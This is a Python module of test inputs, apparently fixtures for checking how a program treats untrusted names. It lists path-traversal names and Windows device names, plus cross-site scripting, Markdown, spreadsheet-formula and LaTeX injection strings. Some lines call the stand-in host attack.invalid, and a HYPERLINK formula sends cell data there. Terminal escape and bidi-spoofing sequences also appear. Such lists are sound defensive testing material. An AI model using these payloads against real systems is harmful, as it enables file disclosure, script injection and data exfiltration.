"""What strangers may write where names are expected."""

OUTSIDE = (
    "../x.jpg",
    "/etc/passwd",
    "a/../../x.jpg",
    "a/./../../x.jpg",
    "..",
    "...",
    ".. /x.jpg",
    "a/. ./x.jpg",
    "",
    ".",
    "a/.",
    "a//x.jpg",
    "a/",
    " ",
    "C:\\x.jpg",
    "C:x.jpg",
    "..\\x.jpg",
    "\\\\host\\share\\x.jpg",
    "//host/share/x.jpg",
    "\\\\?\\C:\\x.jpg",
    "con",
    "nul.txt",
    "a/AUX.tar.jpg",
    "com1.jpg",
    "LPT9",
    "x.jpg:stream",
    "a\0.jpg",
    "a\n.jpg",
    "a\r.jpg",
    "a\x1b[2J.jpg",
    "a\x9b2J.jpg",
    "\ud800.jpg",
)
"""Names that lead out of their folder, here or on Windows, or that no file can have on each system."""

INSIDE = ("s1.jpg", "tt001/shot.jpg", "..jpg", "a..b.jpg", "a.", "a .jpg", "~", "~root/x.jpg", "mü ß.jpg", "./1.jpg")
"""Names that look alike and lead nowhere else."""

SCRIPTS = (
    "<script>window.attacked=1</script>",
    '"><img src=x onerror="window.attacked=1">',
    "'><svg onload='window.attacked=1'>",
    "</script><script>window.attacked=1</script>",
    "</style><script>window.attacked=1</script>",
    "</title><body onload=window.attacked=1>",
    "--><script>window.attacked=1</script><!--",
    "]]></svg><script>window.attacked=1</script>",
    "x onmouseover=window.attacked=1 autofocus",
    "javascript:window.attacked=1",
    "<a href=javascript:window.attacked=1>x</a>",
    "<link rel=stylesheet href=https://attack.invalid/x>",
    "<iframe src=https://attack.invalid>",
    "\\u003cscript\\u003ewindow.attacked=1\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% raw %}",
    "${window.attacked=1}",
    "');window.attacked=1;('",
    "&lt;img src=x onerror=window.attacked=1&gt;",
)
"""What would run, or ask for something, if a page took it for more than text."""

MARKS = (
    "[x](javascript:window.attacked=1)",
    "![x](https://attack.invalid/x.png)",
    "`code` | *cell* | _more_ ~~gone~~",
    "\\| cell",
    "\\\\| cell",
    "a\n\n# heading\n\n| a | b |",
    "[x]: https://attack.invalid",
)
"""What Markdown would take for more than text."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attack.invalid?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-A1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a\r=1+1",
    "a\n=1+1",
    'a"\n=1+1',
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "-",
    "+",
)
"""What a spreadsheet would compute."""

TEX = (
    "\\input{/etc/passwd}",
    "\\immediate\\write18{touch x}",
    "^^5cinput{x}",
    "a & b \\\\ c",
    "100 % & more",
    "[2cm] first",
    "* first",
    "}}\\end{tabular}",
    "a\n\nb",
    "$\\frac{$",
    "~#_",
)
"""What LaTeX would carry out, or break at."""

MATHS = ("$\\frac{$", "a$b$c", "$$", "a$b", "$\\mathdefault{x}$", "\\$x$", "$x^{2}$ _{")
"""What matplotlib would take for a formula."""

CONTROLS = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[1;1H",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "a\rb",
    "a\bb",
    "a\x00b",
    "a\x7fb",
    "\u202egpj.exe",
    "\u2066x\u2069",
    "\u2028x",
)
"""What a terminal would obey, or show as other words."""

WORDS = tuple(dict.fromkeys((*SCRIPTS, *MARKS, *FORMULAS, *TEX, *MATHS)))
